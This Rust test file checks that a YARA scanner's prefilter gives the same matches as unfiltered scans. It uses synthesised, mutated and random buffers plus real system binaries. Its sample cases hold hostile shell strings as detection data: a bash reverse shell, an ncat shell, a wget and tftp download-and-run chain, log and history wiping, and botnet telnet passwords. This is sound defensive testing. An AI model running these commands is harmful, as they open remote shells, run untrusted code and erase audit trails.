//! The prefilter must never lose a match: scans with it must equal scans without it
//! (and the single joint rule set of before) on buffers built to match every Elastic
//! rule, on mutations of those, on random data and on real system binaries.

use std::path::{Path, PathBuf};

use ferret_report::YaraResult;
use ferret_yara::{
    CompiledRules, LoadOptions, RuleSource, ScanOptions, Scanner, load, load_single_set,
};
use yara_x_parser::ast::{self, HexSubPattern, HexToken};

fn elastic() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/yara/elastic-linux")
}

fn sources() -> Vec<RuleSource> {
    let mut s = ferret_yara::bundled();
    s.push(RuleSource::from_path(elastic()));
    s
}

fn options(prefilter: bool) -> ScanOptions {
    ScanOptions {
        prefilter,
        // Every namespace, however small, so that the bundled rules are checked too.
        prefilter_min_patterns: 0,
        ..Default::default()
    }
}

/// xorshift64: reproducible and dependency-free.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: u64) -> u64 {
        if n == 0 { 0 } else { self.next() % n }
    }
    fn byte(&mut self) -> u8 {
        self.next() as u8
    }
}

/// Bytes that one match of `p` could consist of, or `None` for patterns this
/// generator does not cover (regular expressions, base64).
fn synthesise(p: &ast::Pattern<'_>, rng: &mut Rng) -> Option<Vec<u8>> {
    match p {
        ast::Pattern::Text(t) => {
            let m = &t.modifiers;
            if m.base64().is_some() || m.base64wide().is_some() {
                return None;
            }
            let mut bytes: Vec<u8> = t.text.value.iter().copied().collect();
            if m.nocase().is_some() {
                for b in &mut bytes {
                    if b.is_ascii_alphabetic() && rng.below(2) == 0 {
                        *b ^= 0x20;
                    }
                }
            }
            let wide = m.wide().is_some() && (m.ascii().is_none() || rng.below(2) == 0);
            if wide {
                bytes = bytes.iter().flat_map(|&b| [b, 0]).collect();
            }
            if let Some(ast::PatternModifier::Xor { start, end, .. }) = m.xor() {
                let key = *start + rng.below(u64::from(end - start) + 1) as u8;
                for b in &mut bytes {
                    *b ^= key;
                }
            }
            Some(bytes)
        }
        ast::Pattern::Hex(h) => {
            let mut out = Vec::new();
            hex(&h.sub_patterns, rng, &mut out);
            Some(out)
        }
        ast::Pattern::Regexp(_) => None,
    }
}

fn hex(sub: &HexSubPattern, rng: &mut Rng, out: &mut Vec<u8>) {
    for tok in sub.iter() {
        match tok {
            HexToken::Byte(b) => out.push(b.value | (rng.byte() & !b.mask)),
            HexToken::NotByte(b) => loop {
                let x = rng.byte();
                if x & b.mask != b.value {
                    out.push(x);
                    break;
                }
            },
            HexToken::Jump(j) => {
                let lo = j.start.unwrap_or(0);
                let hi = j.end.unwrap_or(lo + 8).min(lo + 8);
                for _ in 0..lo + rng.below(u64::from(hi - lo) + 1) as u32 {
                    out.push(rng.byte());
                }
            }
            HexToken::Alternative(alt) => {
                let i = rng.below(alt.alternatives.len() as u64) as usize;
                if let Some(branch) = alt.alternatives.get(i) {
                    hex(branch, rng, out);
                }
            }
        }
    }
}

/// An ELF64 header, so that rules testing the magic can match.
fn elf_header() -> Vec<u8> {
    let mut h = vec![0u8; 64];
    h[..8].copy_from_slice(b"\x7fELF\x02\x01\x01\x00");
    h[16] = 2;
    h[18] = 0x3e;
    h
}

/// For every rule of every Elastic file: a buffer holding all its patterns.
fn elastic_buffers(rng: &mut Rng) -> Vec<(String, Vec<u8>)> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(elastic())
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    files.sort();
    let mut out = Vec::new();
    for f in files {
        let text = std::fs::read(&f).unwrap();
        let ast = yara_x_parser::ast::AST::from(text.as_slice());
        for rule in ast.rules() {
            let mut buf = elf_header();
            let mut ok = true;
            for p in rule.patterns.iter().flatten() {
                match synthesise(p, rng) {
                    Some(bytes) => {
                        // Separators that no `fullword` pattern can run into.
                        buf.extend_from_slice(b"\n\0\0\n");
                        buf.extend_from_slice(&bytes);
                        buf.extend_from_slice(b"\n\0\0\n");
                    }
                    None => ok = false,
                }
            }
            if ok {
                out.push((rule.identifier.name.to_owned(), buf));
            }
        }
    }
    out
}

fn matched(r: &YaraResult, rule: &str) -> bool {
    r.matches.iter().any(|m| m.rule == rule)
}

struct Scanners<'r> {
    on: Scanner<'r>,
    off: Scanner<'r>,
}

impl<'r> Scanners<'r> {
    fn new(rules: &'r CompiledRules) -> Self {
        Self {
            on: Scanner::new(rules, &options(true)),
            off: Scanner::new(rules, &options(false)),
        }
    }

    /// Both scans, asserted equal; the unfiltered result.
    fn check(&mut self, what: &str, data: &[u8]) -> YaraResult {
        let off = self.off.scan(data);
        let on = self.on.scan(data);
        assert!(off.error.is_none(), "{what}: {:?}", off.error);
        assert_eq!(on, off, "{what}: the prefilter changed the result");
        off
    }
}

#[test]
fn every_elastic_rule_matches_its_synthesised_buffer_with_and_without_prefilter() {
    let rules = load(&sources(), &LoadOptions::default()).unwrap();
    let summaries = rules.prefilter_summaries();
    for s in &summaries {
        println!("{s}");
    }
    let elastic = summaries
        .iter()
        .find(|s| s.namespace == "elastic-linux")
        .expect("an elastic-linux namespace");
    assert!(elastic.enabled, "{elastic:?}");
    assert!(elastic.rules > 800);

    let mut rng = Rng(0x00c0_ffee_1234_5678);
    let buffers = elastic_buffers(&mut rng);
    assert!(buffers.len() > 800, "only {} buffers", buffers.len());
    let mut scanners = Scanners::new(&rules);
    let mut hits = 0;
    let mut misses = Vec::new();
    for (rule, buf) in &buffers {
        let r = scanners.check(rule, buf);
        if matched(&r, rule) {
            hits += 1;
        } else {
            misses.push(rule.as_str());
        }
    }
    let stats = scanners.on.prefilter_stats();
    println!(
        "{hits} of {} synthesised buffers matched their rule; not matched (conditions \
         beyond their patterns): {misses:?}; yara-x scans with prefilter: {} of {}",
        buffers.len(),
        stats.yara_scans,
        stats.namespace_scans
    );
    assert!(
        hits * 100 >= buffers.len() * 95,
        "only {hits} of {} buffers matched their rule",
        buffers.len()
    );
}

#[test]
fn mutated_and_random_buffers_scan_the_same_with_and_without_prefilter() {
    let rules = load(&sources(), &LoadOptions::default()).unwrap();
    let mut rng = Rng(0x5eed_0bad_cafe_f00d);
    let buffers = elastic_buffers(&mut rng);
    let mut scanners = Scanners::new(&rules);
    let mut any = 0;
    for (i, (rule, buf)) in buffers.iter().enumerate().step_by(3) {
        let mut m = buf.clone();
        match i % 4 {
            // Flip a few bytes: often breaks one pattern, sometimes an anchor.
            0 => {
                for _ in 0..3 {
                    let at = rng.below(m.len() as u64) as usize;
                    m[at] ^= 1 << rng.below(8);
                }
            }
            // Drop the last pattern half-way.
            1 => m.truncate(m.len() - m.len().min(6)),
            // Change the case of everything.
            2 => m.iter_mut().for_each(|b| *b = b.to_ascii_uppercase()),
            // Two rules' buffers together.
            _ => m.extend_from_slice(&buffers[(i * 7) % buffers.len()].1),
        }
        any += usize::from(!scanners.check(rule, &m).matches.is_empty());
    }
    for n in 0..200 {
        let len = rng.below(20_000) as usize;
        let data: Vec<u8> = (0..len).map(|_| rng.byte()).collect();
        scanners.check(&format!("random buffer {n}"), &data);
    }
    println!("{any} mutated buffers still matched some rule");
    assert!(any > 50, "mutations left only {any} matching buffers");
}

#[test]
fn split_namespaces_scan_like_the_single_joint_rule_set() {
    let split = load(&sources(), &LoadOptions::default()).unwrap();
    let joint = load_single_set(&sources(), &LoadOptions::default()).unwrap();
    assert_eq!(split.report.files, joint.report.files);
    assert_eq!(split.report.files_compiled, joint.report.files_compiled);
    assert_eq!(split.report.rules, joint.report.rules);
    assert_eq!(split.report.failures, joint.report.failures);
    assert_eq!(split.report.key, joint.report.key);
    let mut rng = Rng(0x0123_4567_89ab_cdef);
    let buffers = elastic_buffers(&mut rng);
    let mut on = Scanner::new(&split, &options(true));
    let mut old = Scanner::new(&joint, &options(true));
    // Bundled rules' strings too, so that both namespaces match one buffer.
    let mut upx = elf_header();
    upx.extend_from_slice(b"UPX!....UPX0....UPX1....$Id: UPX ..");
    let mut both = 0;
    for chunk in buffers.chunks(9) {
        let mut data = upx.clone();
        for (_, b) in chunk {
            data.extend_from_slice(b);
        }
        let a = on.scan(&data);
        let b = old.scan(&data);
        assert_eq!(a, b);
        let namespaces: std::collections::BTreeSet<&str> =
            a.matches.iter().map(|m| m.namespace.as_str()).collect();
        both += usize::from(namespaces.len() == 2);
    }
    assert!(both > 50, "only {both} buffers matched both namespaces");
}

/// ELF files of /usr/bin (the machine's; CI's is a Debian 12 like it), smaller
/// files first so that the debug build stays quick.
fn system_elves(limit: usize, max_bytes: u64) -> Vec<PathBuf> {
    let mut files: Vec<(u64, PathBuf)> = std::fs::read_dir("/usr/bin")
        .unwrap()
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter_map(|p| {
            let m = std::fs::metadata(&p).ok()?;
            let mut magic = [0u8; 4];
            use std::io::Read as _;
            std::fs::File::open(&p).ok()?.read_exact(&mut magic).ok()?;
            (m.is_file() && magic == *b"\x7fELF").then_some((m.len(), p))
        })
        .collect();
    files.sort();
    let mut total = 0;
    let mut out = Vec::new();
    for (len, p) in files {
        if out.len() == limit || total + len > max_bytes {
            break;
        }
        total += len;
        out.push(p);
    }
    out
}

#[test]
fn system_binaries_scan_the_same_with_and_without_prefilter() {
    let rules = load(&sources(), &LoadOptions::default()).unwrap();
    let files = system_elves(300, 60 << 20);
    assert!(
        files.len() >= 200,
        "only {} ELF files in /usr/bin",
        files.len()
    );
    let mut scanners = Scanners::new(&rules);
    let mut matching = 0;
    for f in &files {
        let data = std::fs::read(f).unwrap();
        matching += usize::from(
            !scanners
                .check(&f.display().to_string(), &data)
                .matches
                .is_empty(),
        );
    }
    println!(
        "{} /usr/bin ELF files, {matching} with matches",
        files.len()
    );
    for (ns, st) in scanners.on.prefilter_stats_by_namespace() {
        println!(
            "  {ns}: the prefilter passed {} of {} files to yara-x",
            st.yara_scans, st.namespace_scans
        );
    }
}

/// One buffer per bundled rule (several of them regular expressions, one an
/// entropy check without patterns), each of which must match with the prefilter.
#[test]
fn bundled_rules_match_their_samples_with_and_without_prefilter() {
    let rules = load(&ferret_yara::bundled(), &LoadOptions::default()).unwrap();
    let s = &rules.prefilter_summaries()[0];
    println!("{s:?}");
    assert!(s.enabled, "{s:?}");
    let elf = |text: &[u8]| {
        let mut b = elf_header();
        b.extend_from_slice(text);
        b
    };
    let mut packed = elf_header();
    packed[0x3c] = 0;
    packed[0x3d] = 0;
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    packed.extend((0..8192).map(|_| rng.byte()));
    let cases: Vec<(&str, Vec<u8>)> =
        vec![
        (
            "ferret_iot_bot_watchdog_and_killer",
            elf(b"/dev/watchdog\0/proc/\0/exe\0/cmdline\0"),
        ),
        (
            "ferret_iot_bot_telnet_bruteforce",
            elf(b"/bin/busybox admin root xc3511 vizxv 888888 enable system shell ogin: assword:"),
        ),
        (
            "ferret_downloader_chain",
            b"cd /tmp; wget http://example.invalid/x; chmod 777 x; ./x".to_vec(),
        ),
        (
            "ferret_downloader_chain",
            b"cd  /dev/shm && tftp -r x -g 1.2.3.4 && chmod +x x".to_vec(),
        ),
        ("ferret_kernel_thread_masquerade", elf(b"[kworker/0:1]\0prctl\0")),
        (
            "ferret_anti_debug_tracerpid",
            elf(b"TracerPid\0/proc/self/status\0"),
        ),
        (
            "ferret_persistence_multi",
            elf(b"/etc/crontab\0/etc/rc.local\0.bashrc\0"),
        ),
        (
            "ferret_ld_preload_rootkit",
            b"/etc/ld.so.preload RTLD_NEXT dlsym".to_vec(),
        ),
        ("ferret_coinminer_stratum", b"STRATUM+TCP://pool:3333".to_vec()),
        (
            "ferret_reverse_shell",
            b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1".to_vec(),
        ),
        (
            "ferret_reverse_shell",
            b"ncat 10.0.0.1 4444 -e /bin/bash".to_vec(),
        ),
        (
            "ferret_reverse_shell",
            elf(b"/bin/sh -i\0dup2\0connect\0"),
        ),
        (
            "ferret_irc_bot",
            b"NICK x\nUSER x\nJOIN #c\nPRIVMSG #c\nudpflood killall".to_vec(),
        ),
        ("ferret_history_and_log_wiping", b"unset  HISTFILE".to_vec()),
        (
            "ferret_history_and_log_wiping",
            b"rm -rf /var/log/wtmp".to_vec(),
        ),
        ("ferret_upx_packed_elf", elf(b"UPX!....UPX0\0")),
        ("ferret_upx_modified_magic_elf", elf(b"$Id: UPX 3.96\0")),
        ("ferret_elf_no_section_headers_high_entropy", packed),
    ];
    let mut scanners = Scanners::new(&rules);
    for (rule, data) in &cases {
        let r = scanners.check(rule, data);
        assert!(matched(&r, rule), "{rule} did not match: {r:?}");
    }
    // Near misses: each without the part that made it match.
    for (rule, data) in &cases {
        let mut d = data.clone();
        d.truncate(d.len().saturating_sub(6).max(64.min(d.len())));
        scanners.check(rule, &d);
    }
    let stats = scanners.on.prefilter_stats();
    assert!(stats.yara_scans < stats.namespace_scans, "{stats:?}");
}
